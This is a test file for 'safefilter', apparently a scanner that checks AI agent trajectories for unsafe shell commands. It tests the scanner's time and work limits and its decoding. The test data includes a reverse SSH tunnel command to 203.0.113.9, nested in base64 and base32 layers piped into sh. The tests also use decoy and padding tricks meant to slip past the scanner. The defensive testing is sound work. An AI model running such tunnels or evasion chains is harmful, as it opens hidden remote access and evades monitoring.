"""Bounded time and bounded analysis (issue 9, slice D).

Every pattern that sees record text is RE2 or a hand-written linear scan; a record's deobfuscation
work is at most a constant times its size; the decode budget goes to what flows into a sink first;
and when a limit cuts the analysis short the record is not passed as clean. Work is asserted
through counters (characters derived), never through wall-clock time: timing lives in
scripts/bench_adversarial.py.
"""
from __future__ import annotations

import base64
import copy
import json
import random
import re
from importlib import resources

import jsonschema
import pytest

from safefilter import Scanner
from safefilter.config import DEFAULTS
from safefilter.normalize import Limits, derive, link_scripts
from safefilter.normalize import deobfuscate, extract
from safefilter.normalize.budget import Budget
from safefilter.normalize.extract import fences
from safefilter.policy import Policy
from safefilter.types import Finding, Incomplete, Segment, Severity

from conftest import bash, call, tool, traj

REVERSE = "ssh -fNR 9000:localhost:22 u@203.0.113.9"
SAFETY_SCHEMA = json.loads(resources.files("safefilter").joinpath("schemas/safety.schema.json").read_text())


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def decoys(n: int) -> str:
    """Harmless commands whose base64 tokens decode to printable text."""
    return "; ".join(f"echo {b64(f'harmless decoy number {i} for the build log')}" for i in range(n))


@pytest.fixture(scope="module")
def strict() -> Scanner:
    return Scanner.from_rules()


# --- linear time: no backtracking pattern sees record text -------------------------------------

@pytest.mark.parametrize("module", [deobfuscate, extract])
def test_no_backtracking_regex_sees_record_text(module):
    python_patterns = [name for name, value in vars(module).items() if isinstance(value, re.Pattern)]
    assert python_patterns == [], f"Python re patterns in {module.__name__}: {python_patterns}; use RE2"


def test_fence_scanner_agrees_with_the_regex_it_replaces():
    reference = re.compile(r"```[ \t]*(bash|sh|shell|console|zsh|python|py|python3)?[ \t]*\n(.*?)```", re.S)
    alphabet = ["`", "```", " ", "\t", "\n", "bash", "sh", "py", "python3", "x", "shell", "Bash", "\r"]
    rng = random.Random(7)
    for _ in range(3000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 14)))
        expected = [(m.group(1) or "", m.start(2), m.end(2)) for m in reference.finditer(text)]
        assert list(fences(text)) == expected, text


def test_pathological_inputs_of_the_issue_are_read_correctly(strict):
    """The three inputs that took a minute each: same answers, and a fence after the blanks is still read."""
    assert not strict.scan(traj(bash("base64" + "A" * 60_000))).unsafe
    write = call("write_file", {"path": "/tmp/a.sh", "content": "echo hi"}, "w")
    assert not strict.scan(traj(write, tool("ok", "w"), bash("sudo " * 80_000, "r"))).unsafe
    text = "```" + " " * 200_000 + "x\n```bash\n" + REVERSE + "\n```"
    verdict = strict.scan(traj({"role": "assistant", "content": text}))
    assert verdict.unsafe and "tunneling" in verdict.categories


# --- bounded work per record -------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "a=" + "x" * 2000 + "; " + "$a" * 5000,  # a variable bomb: each reference expands 2000 times
    ("echo " + b64("echo " + b64("echo " + b64(REVERSE) + " | base64 -d | sh") + " | base64 -d | sh") + " | rev; ") * 200,
    "".join(f"'{b64('x' * 30 + str(i))}' | base64 -d; " for i in range(2000)),
])
def test_derived_characters_are_at_most_a_constant_times_the_input(text):
    limits = Limits(work_floor=0)
    budget = Budget.for_texts((text,), limits.work_per_char, limits.work_floor)
    derived = derive(Segment("shell", text, 2, "f"), limits, budget)
    assert sum(len(s.text) for s in derived) <= limits.work_per_char * len(text)


def test_variable_bomb_is_capped_and_reported():
    text = "a=" + "x" * 2000 + "; " + "$a" * 5000
    budget = Budget.for_texts((text,), 16, 1 << 20)
    views = derive(Segment("shell", text, 2, "f"), Limits(), budget)
    assert all(len(v.text) <= 2 * len(text) + 4096 for v in views)
    assert [i.reason for i in budget.reasons] == ["substitution_cap"]


def test_exhausted_record_budget_is_reported_not_silent():
    text = decoys(40) + " | base64 -d | sh"
    budget = Budget.for_texts((text,), 1, 0)  # far too small for this record
    derive(Segment("shell", text, 3, "tool_calls.0.function.arguments.command"), Limits(), budget)
    assert budget.exhausted
    assert Incomplete("work_budget", 3, "tool_calls.0.function.arguments.command") in budget.reasons


def test_a_script_run_in_a_loop_is_linked_twice_not_per_run():
    script = Segment("file", "echo hi\n" * 1000, 1, "content", path="/tmp/job.sh", step=0)
    runs = [Segment("shell", "sh /tmp/job.sh; sh /tmp/job.sh", 2 + i, "command", step=1 + i) for i in range(100)]
    linked = link_scripts([script, *runs])
    assert [s.step for s in linked] == [1, 100]


# --- the decode budget goes to what runs -------------------------------------------------------

def test_decoys_before_the_payload_do_not_spend_the_budget(strict):
    command = decoys(100) + "; echo " + b64(REVERSE) + " | base64 -d | bash"
    verdict = strict.scan(traj(bash(command)))
    assert verdict.unsafe and "tunneling" in verdict.categories
    assert any(f.decoded_from == "base64" for f in verdict.findings)


def test_padded_command_is_still_decoded():
    limits = Limits(max_text=1024)
    command = "true " * 5000 + "\necho " + b64(REVERSE) + " | base64 -d | bash"
    scanner = Scanner.from_rules(limits=limits)
    verdict = scanner.scan(traj(bash(command)))
    assert verdict.unsafe and "tunneling" in verdict.categories


def test_payloads_in_sinks_beyond_the_budget_make_the_record_incomplete(strict):
    """Dozens of decodable tokens all piped into decoders: what was not decoded is not called clean."""
    command = "; ".join(f"echo {b64(f'harmless decoy number {i} for the log')} | base64 -d" for i in range(100))
    verdict = strict.scan(traj(bash(command)))
    assert verdict.unsafe and verdict.categories == ()
    assert [i.reason for i in verdict.analysis_incomplete] == ["decode_budget"]
    assert verdict.analysis_incomplete[0].message_index == 2
    safety = verdict.safety_object()
    jsonschema.validate(safety, SAFETY_SCHEMA)
    assert safety["analysis_incomplete"] == [
        {"reason": "decode_budget", "message_index": 2, "field": "tool_calls.0.function.arguments.command"}]
    lenient = Scanner.from_rules(policy=Policy(incomplete_is_unsafe=False))
    relaxed = lenient.scan(traj(bash(command)))
    assert not relaxed.unsafe and relaxed.analysis_incomplete  # still known, not enforced


def test_one_layer_too_deep_is_incomplete(strict):
    text = REVERSE
    for _ in range(5):
        text = "echo " + b64(text) + " | base64 -d | sh"
    verdict = strict.scan(traj(bash(text)))
    assert verdict.unsafe
    assert "decode_depth" in {i.reason for i in verdict.analysis_incomplete}


# --- precision: ordinary work is never incomplete ----------------------------------------------

def test_binary_and_fixture_base64_is_not_incomplete(strict):
    png = base64.b64encode(bytes(range(256)) * 64).decode()
    fixture = b64("just some harmless fixture text for a test case")
    records = [
        traj(call("write_file", {"path": "tests/fixtures/logo.png.b64", "content": png}, "w"), tool("ok", "w")),
        traj(call("write_file", {"path": "tests/data.py", "content": "\n".join(f"D{i} = '{fixture}'" for i in range(200))},
                  "w"), tool("ok", "w"), bash("python -m pytest -q tests", "r")),
        traj(bash(" ".join(f"echo {png[i:i + 400]} | base64 -d >> img.bin;" for i in range(0, 8000, 400)))),
        traj(bash("python - <<'EOF'\nimport base64\n" + "\n".join(
            f"print(base64.b64decode('{b64(f'line {i} of the expected output')}'))" for i in range(100)) + "\nEOF")),
    ]
    for record in records[:3]:
        verdict = strict.scan(record)
        assert not verdict.unsafe and not verdict.analysis_incomplete
    # a hundred small decodes in a heredoc script do exceed the per-segment decode budget: reported
    # (exec'd: decoded text that is only printed is data, masked by the parser, never decoded)
    executed = traj(bash("python - <<'EOF'\nimport base64\n" + "\n".join(
        f"exec(base64.b64decode('{b64(f'line {i} of the expected output')}'))" for i in range(100)) + "\nEOF"))
    assert strict.scan(executed).analysis_incomplete
    assert not strict.scan(records[3]).analysis_incomplete


# --- policy, schema and config ------------------------------------------------------------------

def _finding() -> Finding:
    return Finding("tunneling", "reverse_ssh_tunnel", "rule", "r1", 1.0, Severity.HIGH, (), 4, None, "f", 0, 1, "e")


def test_policy_keeps_categories_and_adds_incomplete():
    reasons = (Incomplete("decode_depth", 5, "content"),)
    both = Policy().decide([_finding()], incomplete=reasons)
    assert both.unsafe and both.categories == ("tunneling",) and both.analysis_incomplete == reasons
    assert both.first_unsafe_message == 4
    only = Policy().decide([], incomplete=reasons)
    assert only.unsafe and only.categories == () and only.first_unsafe_message == 5
    assert not Policy(incomplete_is_unsafe=False).decide([], incomplete=reasons).unsafe
    assert not Policy().decide([]).unsafe
    assert "analysis_incomplete" not in Policy().decide([_finding()]).safety_object()


def test_schema_requires_categories_unless_analysis_is_incomplete():
    plain = Policy().decide([_finding()]).safety_object()
    jsonschema.validate(plain, SAFETY_SCHEMA)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**plain, "categories": [], "findings": []}, SAFETY_SCHEMA)
    jsonschema.validate(Policy().decide([], incomplete=(Incomplete("work_budget", 2, "f"),)).safety_object(),
                        SAFETY_SCHEMA)


def test_config_switch_reaches_the_policy():
    from safefilter.run import build_scanner

    config = copy.deepcopy(DEFAULTS)
    assert config["policy"]["incomplete_is_unsafe"] is True
    assert build_scanner(config).policy.incomplete_is_unsafe is True
    config["policy"]["incomplete_is_unsafe"] = False
    config["normalize"]["work_per_char"] = 4
    scanner = build_scanner(config)
    assert scanner.policy.incomplete_is_unsafe is False and scanner.limits.work_per_char == 4


def test_many_constants_far_from_any_sink_are_not_incomplete(strict):
    """Test vectors in code: more decodable constants than the budget, none of them run."""
    vectors = "\n".join(f"VECTOR_{i} = '{b64(f'expected output line number {i} of the suite')}'" for i in range(150))
    code = vectors + "\n\n" + "\n" * 3 + "def test_vectors():\n" + "    assert len(VECTORS) == 150\n" * 10
    verdict = strict.scan(traj(call("python", {"code": code})))
    assert not verdict.unsafe and not verdict.analysis_incomplete


def test_linear_re_spans_are_character_offsets_of_the_original_text():
    from safefilter.normalize.linear_re import Pattern

    pattern = r"\$\{([A-Za-z_]\w{0,40})\}|\$([A-Za-z_]\w{0,40})|'[^'\n]*'"
    ours, reference = Pattern(pattern), re.compile(pattern, re.ASCII)
    rng = random.Random(3)
    alphabet = ["$", "{", "}", "a", "b_", "'", "\n", " ", "é", "日本", "\U0001f600", "x1"]
    for _ in range(2000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 20)))
        assert [(m.span(), m.group(1), m.group(2)) for m in ours.finditer(text)] == \
            [(m.span(), m.group(1), m.group(2)) for m in reference.finditer(text)], text
        assert ours.sub(lambda m: "<" + m.group(0) + ">", text) == reference.sub(lambda m: "<" + m.group(0) + ">", text)


def test_a_multi_line_script_decoded_from_a_written_file_is_scanned_when_it_runs(strict):
    script = "#!/bin/sh\ncd /tmp\n" + REVERSE + "\n"
    attack = traj(call("write_file", {"path": "notes/blob.txt", "content": base64.encodebytes(script.encode()).decode()},
                       "w"), tool("ok", "w"), bash("cat notes/blob.txt | base64 -d > run.sh && sh run.sh", "r"))
    verdict = strict.scan(attack)
    assert verdict.unsafe and "tunneling" in verdict.categories
    finding = next(f for f in verdict.findings if f.category == "tunneling")
    assert finding.decoded_from.startswith("script:run.sh>base64") and finding.message_index == 2
    honest = traj(call("write_file", {"path": "notes/blob.txt", "content": base64.encodebytes(b"echo hello\n").decode()},
                       "w"), tool("ok", "w"), bash("cat notes/blob.txt | base64 -d > run.sh && sh run.sh", "r"))
    assert "tunneling" not in strict.scan(honest).categories  # decode-then-run itself is a rule of its own


@pytest.mark.parametrize("command", [
    "echo {b64b64} | base64 -d | base64 -d | sh",
    "echo {b32} | base32 -d | sh",
    "echo '{wrapped}' | base64 -d | sh",
])
def test_layered_base32_and_wrapped_encodings_are_decoded(strict, command):
    wrapped = "\n".join(b64(REVERSE + " # padding padding")[i:i + 16] for i in range(0, 80, 16))
    text = command.format(b64b64=b64(b64(REVERSE)), b32=base64.b32encode(REVERSE.encode()).decode(), wrapped=wrapped)
    verdict = strict.scan(traj(bash(text)))
    assert verdict.unsafe and "tunneling" in verdict.categories
